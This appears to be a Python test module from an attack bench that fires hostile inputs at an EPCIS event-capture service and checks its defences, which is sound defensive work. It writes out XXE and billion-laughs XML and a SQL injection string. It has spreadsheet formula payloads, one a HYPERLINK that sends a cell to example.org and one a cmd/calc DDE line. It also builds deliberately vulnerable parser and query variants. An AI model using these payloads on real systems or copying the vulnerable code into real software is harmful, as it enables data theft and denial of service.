"""Attacks by what is sent in: entities, bombs, injections into SQL and spreadsheets, bodies without end."""

import secrets
import tempfile
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

from lxml import etree
from sqlalchemy import text

from bench.attacks.evidence import told
from bench.attacks.registry import Adversary, Outcome, attack, survived
from bench.attacks.undoing import both, replaced
from bench.attacks.world import World, document, item, seen
from service.audit.tables import Column, Table, as_csv

_XML = {"Content-Type": "application/xml"}
_EVENT = """<?xml version="1.0"?>{doctype}
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:x="https://example.org/x" schemaVersion="2.0"
 creationDate="2026-03-01T00:00:00Z"><EPCISBody><EventList><ObjectEvent><eventTime>2026-03-01T00:00:00Z</eventTime>
 <eventTimeZoneOffset>+00:00</eventTimeZoneOffset><epcList><epc>{thing}</epc></epcList><action>OBSERVE</action>
 <x:note>{note}</x:note></ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>"""


def _trusting(_parsed: Any) -> Any:
    """As any XML reader with its doors open."""

    def parsed(body: bytes) -> tuple[Any, str]:
        reader = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=True, huge_tree=True)
        root = etree.fromstring(body, reader)
        return root, etree.tostring(root, encoding="unicode")

    return parsed


_OPEN_DOORS = replaced("service.epcis.xml.reading:parsed", _trusting)


@attack(
    "xml-external-entity",
    "An XML document has an entity that reads a file of ours",
    guarantee="G5",
    adversary=Adversary.TENANT,
    without="a member captures our keys into an event of its own, and reads them there",
    where="`epcis.xml.parsing`: no document type definitions, no entities, no network",
    undefended=_OPEN_DOORS,
)
async def _external(world: World) -> Outcome:
    canary = f"canary{secrets.token_hex(6)}"
    with tempfile.NamedTemporaryFile("w", suffix=".txt") as file:
        file.write(canary)
        file.flush()
        doctype = f'<!DOCTYPE d [<!ENTITY key SYSTEM "{Path(file.name).as_uri()}">]>'
        body = _EVENT.format(doctype=doctype, thing=item(), note="&key;")
        await world.call("stranger", "POST", "/v1/captures", content=body.encode(), headers=_XML)
    found = await world.one("SELECT count(*) FROM events WHERE document LIKE :it", it=f"%{canary}%".encode())
    return survived(not found, "the file is in an event" if found else "nothing of the file is kept")


@attack(
    "xml-billion-laughs",
    "An XML document of a kilobyte expands to gigabytes",
    guarantee="G8",
    adversary=Adversary.TENANT,
    without="one small request takes the memory of the machine",
    where="as above",
    undefended=_OPEN_DOORS,
)
async def _laughs(world: World) -> Outcome:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 5))
    body = _EVENT.format(doctype=f'<!DOCTYPE d [<!ENTITY l0 "ha">{levels}]>', thing=item(), note="&l4;")
    receipt = await world.call("stranger", "POST", "/v1/captures", content=body.encode(), headers=_XML)
    kept = await world.one("SELECT coalesce(max(length(document)), 0) FROM events WHERE document LIKE '%hahahahaha%'")
    await world.rows("DELETE FROM events WHERE document LIKE '%hahahahaha%'")
    return survived(kept < 1000, f"{receipt.status_code}; {len(body)} bytes became {kept}")


@attack(
    "ties-without-end",
    "A document of some kilobytes ties each of many inputs to each of many outputs",
    guarantee="G8",
    adversary=Adversary.TENANT,
    without="a few requests fill the store: their links are the product of what they name",
    where="`capture.limits.check_ties`",
    undefended=replaced("service.capture.drafted:check_ties", lambda _: lambda _event, left: left),
    heavy=True,
)
async def _ties(world: World) -> Outcome:
    names = [f"https://id.gs1.org/01/09521141234563/21/T{secrets.token_hex(4)}{n}" for n in range(640)]
    event = {
        "type": "TransformationEvent",
        "eventTime": "2026-03-01T00:00:00Z",
        "eventTimeZoneOffset": "+00:00",
        "inputEPCList": names[:320],
        "outputEPCList": names[320:],
    }
    answer = await world.call(
        "stranger", "POST", "/v1/captures", content=document(event), headers={"Content-Type": "application/json"}
    )
    if answer.status_code == 202:
        await world.rows("UPDATE parts SET state = 3, refusal = 'BadSignature' WHERE state = 0")
    return survived(answer.status_code in (400, 422), f"{answer.status_code}, for {320 * 320} ties")


@attack(
    "body-without-end",
    "A request's body never ends",
    guarantee="G8",
    adversary=Adversary.OUTSIDER,
    without="an open connection and patience fill the memory of every process",
    where="`api.bounds.BodyBound`",
    undefended=replaced(
        "service.api.bounds:BodyBound.__call__",
        lambda _: lambda self, scope, receive, send: self._app(scope, receive, send),
    ),
)
async def _endless(world: World) -> Outcome:
    taken = 0

    async def body() -> AsyncIterator[bytes]:
        nonlocal taken
        while taken < 8_000_000:
            taken += 16_384
            yield b" " * 16_384

    await world.call("stranger", "POST", "/v1/traces", content=body(), headers={"Content-Type": "application/json"})
    return survived(taken < 4_000_000, f"{taken} bytes were read")


@attack(
    "nested-json",
    "A document of nested brackets",
    guarantee="G8",
    adversary=Adversary.TENANT,
    without="the reader's recursion ends the process, or a query spends minutes in it",
    where="`epcis.plainjson.MAX_DEPTH`",
    undefended=both(
        replaced("service.epcis.jsontext:MAX_DEPTH", lambda _: 500),
        replaced("service.epcis.plainjson:MAX_DEPTH", lambda _: 500),
    ),
)
async def _nested(world: World) -> Outcome:
    deep: Any = "x"
    for _ in range(200):
        deep = {"x:a": deep}
    event = seen(item(), **{"x:a": deep}) | {"@context": {"x": "https://example.org/x/"}}
    began = time.perf_counter()
    answer = await world.call(
        "stranger", "POST", "/v1/captures", content=document(event), headers={"Content-Type": "application/json"}
    )
    seconds = time.perf_counter() - began
    return survived(answer.status_code == 400, f"{answer.status_code} within {seconds:.1f} s")


async def _unbound_trail(session: Any, identifier: str, viewer: Any) -> Any:
    """As `store.trails.visible_trail`, with the identifier written into the statement."""
    from service.store.trails import VISIBLE, TrailRow

    statement = f"SELECT id, identifier, kind FROM trails WHERE {VISIBLE.format(trail='trails.id')}"  # noqa: S608
    rows = (await session.execute(text(f"{statement} AND identifier = '{identifier}' LIMIT 1"), viewer.values)).all()
    return TrailRow(*rows[0]) if rows else None


@attack(
    "sql-injection",
    "An identifier is a piece of SQL",
    guarantee="G5",
    adversary=Adversary.TENANT,
    without="a query string reads, or empties, the database",
    where="`service/store`: every value is bound, never written into a statement",
    undefended=replaced("service.store.trails:visible_trail", lambda _: _unbound_trail),
)
async def _injected(world: World) -> Outcome:
    thing = item()
    await world.capture("supplier", seen(thing))
    asked = f"https://example.org/'/**/OR/**/identifier='{thing}'/**/OR/**/'"
    for path in ("/v1/trail", "/v1/trail/journey"):
        answer = await world.call("auditor", "GET", path, params={"identifier": asked})
        if thing in answer.json().get("identifier", ""):
            return survived(False, f"{path} answers for {thing}")
        if answer.status_code >= 500:
            return survived(False, f"{path}: the statement broke: {answer.status_code}")
    return survived(True, "it names no thing")


@attack(
    "spreadsheet-formula",
    "A party's words begin with = and are exported",
    guarantee="G5",
    adversary=Adversary.SUPPLIER,
    without="an auditor opens a table, and it calls the attacker's address, or a program of his machine",
    where="`audit.cells.harmless`",
    undefended=replaced("service.audit.tables:harmless", lambda _: str),
)
async def _formula(_world: World) -> Outcome:
    words = [
        '=HYPERLINK("https://example.org/?"&A1,"here")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1+1",
        "-2+3",
        "＝1",
    ]
    lines = as_csv(Table("t", [Column("c")], [[word] for word in words])).decode("utf-8-sig").splitlines()[1:]
    live = [line for line in lines if line.strip().strip('"').lstrip()[:1] in {"=", "+", "-", "@", "＝"}]
    return survived(not live, live or "each cell is text")


@attack(
    "hostile-bundle",
    "A bundle of nested lists where a proof's node should be",
    guarantee="G4",
    adversary=Adversary.OPERATOR,
    without="the auditor's verifier ends in a stack overflow instead of a verdict",
    where="`sealing.rlp`: nesting is bounded",
    undefended=replaced("service.sealing.rlp:_DEPTH", lambda _: 10**9),
)
async def _hostile(world: World) -> Outcome:
    evidence = await told(world)
    content = evidence.content
    content["header"] = "0x" + _nested_list(5000).hex()
    try:
        return evidence.judged(content)
    except RecursionError as fault:
        return survived(False, type(fault).__name__)


def _nested_list(levels: int) -> bytes:
    encoded = b"\xc0"
    for _ in range(levels):
        size = len(encoded)
        digits = size.to_bytes((size.bit_length() + 7) // 8, "big")
        encoded = (bytes((0xC0 + size,)) if size < 56 else bytes((0xF7 + len(digits),)) + digits) + encoded
    return encoded
